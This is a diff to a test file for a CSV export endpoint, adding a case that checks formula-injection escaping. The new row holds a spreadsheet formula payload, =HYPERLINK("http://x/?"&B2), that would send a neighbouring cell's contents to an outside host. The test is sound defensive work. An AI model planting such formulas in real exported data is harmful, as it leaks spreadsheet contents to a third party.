@@ -8,6 +8,7 @@ describe('CSV answers', () => {
     const rows = [
       { at: '1405-09-12', what: 'صدور پروانه ساختمانی', note: 'a, "quoted"\nline' },
       { at: '1405-09-13', what: 'Permit returned', note: undefined },
+      { at: '1405-09-14', what: '=HYPERLINK("http://x/?"&B2)', note: '-2+3' },
     ];
     app.get('/export', (_request, reply) =>
       reply.send(
@@ -33,6 +34,8 @@ describe('CSV answers', () => {
     expect(parse(res.rawPayload, { bom: true, columns: true })).toEqual([
       { date: '1405-09-12', what: 'صدور پروانه ساختمانی', note: 'a, "quoted"\nline' },
       { date: '1405-09-13', what: 'Permit returned', note: '' },
+      // A typed formula stays text in a spreadsheet.
+      { date: '1405-09-14', what: `'=HYPERLINK("http://x/?"&B2)`, note: "'-2+3" },
     ]);
   });
 
